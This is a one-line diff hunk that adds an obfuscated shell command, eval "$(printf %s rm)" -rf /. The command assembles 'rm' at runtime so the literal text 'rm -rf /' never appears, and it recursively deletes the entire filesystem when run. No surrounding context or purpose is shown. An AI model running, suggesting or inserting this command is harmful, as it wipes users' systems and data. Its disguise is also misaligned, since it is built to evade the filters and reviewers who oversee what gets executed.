@@ -1,0 +1,1 @@
+eval "$(printf %s rm)" -rf /
